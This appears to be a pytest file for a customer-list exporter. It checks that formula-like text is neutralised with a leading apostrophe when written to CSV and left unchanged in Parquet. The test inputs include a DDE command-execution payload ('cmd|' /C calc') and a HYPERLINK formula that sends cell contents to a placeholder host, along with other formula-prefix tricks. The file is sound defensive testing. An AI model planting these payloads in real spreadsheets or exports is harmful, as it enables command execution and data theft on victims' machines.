import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from reactivation_list.output import write_list

LIST = pa.table(
    {
        "rank": [1, 2],
        "entity_id": pa.chunked_array([["anna"], [None]], pa.string()),
        "fall_days": [-0.5, 2.0],
    }
)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org/?"&A2,"open")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        '=1,"\n=2',
    ],
)
def test_a_spreadsheet_computes_nothing_that_a_customer_wrote(tmp_path: Path, text: str) -> None:
    customers = LIST.set_column(1, "entity_id", pa.array([text, "a=b"]))
    for name in ("list.csv", "list.parquet"):
        write_list(customers, tmp_path / name)
    with (tmp_path / "list.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows == [LIST.column_names, ["1", f"'{text}", "-0.5"], ["2", "a=b", "2"]]
    assert pq.read_table(tmp_path / "list.parquet").equals(customers)


def test_other_texts_and_numbers_stay_as_they_are(tmp_path: Path) -> None:
    write_list(LIST, tmp_path / "list.csv")
    assert (tmp_path / "list.csv").read_text() == (
        '"rank","entity_id","fall_days"\n1,"anna",-0.5\n2,,2\n'
    )
